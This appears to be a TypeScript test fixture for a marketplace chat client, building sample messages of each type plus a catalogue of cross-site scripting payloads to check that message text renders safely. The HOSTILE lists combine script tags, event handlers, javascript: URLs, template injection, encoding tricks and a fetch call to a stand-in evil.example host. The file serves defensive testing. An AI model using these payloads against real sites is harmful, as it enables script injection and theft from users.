import type { MessageView } from '@pasar/api';

type Content = MessageView['content'];
const kept = { wireType: 'w', raw: null };
export const HOST = 'https://cdn.example';
const lamp = `${HOST}/lamp.png`;
const price = { amount: '1290.00', currency: 'THB' };
const order = { orderId: '171', orderNumber: '2611204ABCDEFG', status: 'finished', total: price, iconUrl: lamp };

/** A message of every kind, with `words` wherever a marketplace or a buyer may write. */
export const kindsOf = (words: string): Readonly<Record<string, Content>> => ({
  text: { type: 'text', text: words },
  notice: { type: 'notice', text: words, ...kept },
  product: {
    type: 'products',
    products: [{ itemId: '1', title: words, price, oldPrice: null, iconUrl: lamp, actionUrl: 'https://shopee.sg/p/1' }],
    ...kept,
  },
  productList: {
    type: 'products',
    products: [
      { itemId: '2', title: words, price, oldPrice: { ...price, amount: '1500' }, iconUrl: lamp, actionUrl: null },
      { itemId: '3', title: null, price: null, oldPrice: null, iconUrl: null, actionUrl: null },
    ],
    ...kept,
  },
  order: { type: 'order', order, ...kept },
  myOrder: { type: 'myOrder', order: { ...order, status: words }, ...kept },
  confirmOrder: { type: 'confirmOrder', order: { ...order, iconUrl: null }, ...kept },
  voucher: {
    type: 'voucher',
    voucher: { voucherId: '5', voucherCode: 'SAVE25', title: words, discount: { kind: 'percent', percent: 25 } },
    ...kept,
  },
  follow: { type: 'follow', follow: { text: words }, ...kept },
  refund: {
    type: 'refund',
    refund: { orderId: '171', returnId: '9', reason: words, status: words, amount: price, iconUrl: lamp },
    ...kept,
  },
  logistics: {
    type: 'logistics',
    logistics: { orderId: '171', trackingNumber: 'JT0012345', carrier: words, status: words, iconUrl: null },
    ...kept,
  },
  offer: {
    type: 'offer',
    offer: { offerId: '7', productId: '1', productName: words, quantity: 2, price, status: 'waiting', iconUrl: lamp },
    ...kept,
  },
  rating: { type: 'rating', rating: { orderId: '171', stars: 4, text: words }, ...kept },
  ratingAsked: { type: 'rating', rating: { orderId: null, stars: null, text: null }, ...kept },
  sticker: { type: 'sticker', sticker: { imageUrl: lamp, text: words }, ...kept },
  image: { type: 'image', picture: { url: lamp, thumbUrl: null, width: 3, height: 2 }, ...kept },
  video: {
    type: 'video',
    video: { url: `${HOST}/film.mp4`, coverUrl: lamp, width: 320, height: 180, durationSeconds: 37 },
    ...kept,
  },
  videoElsewhere: {
    type: 'video',
    video: { url: null, coverUrl: lamp, width: null, height: null, durationSeconds: null },
    ...kept,
  },
  unknown: { type: 'placeholder', kind: 'unknown', wireType: words.slice(0, 80), raw: { words } },
});

const ATTACKS = [
  'window.owned=1',
  'alert(1)',
  'top.owned=1',
  'fetch("https://evil.example")',
  'document.body.remove()',
  'eval("owned=1")',
];
const SHAPES: readonly ((attack: string) => string)[] = [
  (a) => `<script>${a}</script>`,
  (a) => `<img src=x onerror='${a}'>`,
  (a) => `<svg onload='${a}'>`,
  (a) => `<svg><script>${a}</script></svg>`,
  (a) => `<iframe srcdoc="<script>${a}</script>">`,
  (a) => `<iframe src='javascript:${a}'>`,
  (a) => `<body onload='${a}'>`,
  (a) => `<details open ontoggle='${a}'>`,
  (a) => `<video><source onerror='${a}'></video>`,
  (a) => `<audio src=x onerror='${a}'>`,
  (a) => `<input autofocus onfocus='${a}'>`,
  (a) => `<select autofocus onfocus='${a}'>`,
  (a) => `<marquee onstart='${a}'>`,
  (a) => `<a href='javascript:${a}'>x</a>`,
  (a) => `javascript:${a}`,
  (a) => `JaVaScRiPt:${a}`,
  (a) => `java\tscript:${a}`,
  (a) => `data:text/html,<script>${a}</script>`,
  (a) => `vbscript:${a}`,
  (a) => `https://x.example/"onmouseover="${a}`,
  (a) => `https://x.example/'onfocus='${a}' autofocus='`,
  (a) => `https://x.example/<script>${a}</script>`,
  (a) => `"><script>${a}</script>`,
  (a) => `'><img src=x onerror='${a}'>`,
  (a) => `</textarea><script>${a}</script>`,
  (a) => `</title><script>${a}</script>`,
  (a) => `</style><script>${a}</script>`,
  (a) => `--><script>${a}</script>`,
  (a) => `]]><script>${a}</script>`,
  (a) => `{{constructor.constructor('${a}')()}}`,
  (a) => `\${${a}}`,
  (a) => `$t(${a})`,
  (a) => `<math><mtext><img src=x onerror='${a}'></mtext></math>`,
  (a) => `<template><script>${a}</script></template>`,
  (a) => `<object data='javascript:${a}'>`,
  (a) => `<embed src='javascript:${a}'>`,
  (a) => `<form action='javascript:${a}'><button>x</button></form>`,
  (a) => `<base href='javascript:${a}//'>`,
  (a) => `<link rel=stylesheet href='data:text/css,*{}' onload='${a}'>`,
  (a) => `<meta http-equiv=refresh content='0;javascript:${a}'>`,
  (a) => `<style>@import'javascript:${a}';</style>`,
  (a) => `<p style="background:url(javascript:${a})">x</p>`,
  (a) => `&lt;script&gt;${a}&lt;/script&gt;`,
  (a) => `&#60;script&#62;${a}`,
  (a) => `\\u003cscript\\u003e${a}`,
  (a) => `\u202e<script>${a}</script>`,
  (a) => `<script\f>${a}</script\f>`,
  (a) => `＜script＞${a}＜/script＞`,
  (a) => `<scr<script>ipt>${a}</scr</script>ipt>`,
  (a) => `https://shopee.sg@evil.example/?${a}`,
  (a) => `www.x.example/?q=<svg/onload='${a}'>`,
];
/** Texts that try to run or load something. */
export const HOSTILE = SHAPES.flatMap((shape) => ATTACKS.map(shape));
/** The same, those of one shape together: a text for each shape, so that a screen may draw all of them at once. */
export const HOSTILE_BY_SHAPE = SHAPES.map((shape) => ATTACKS.map(shape).join(' '));
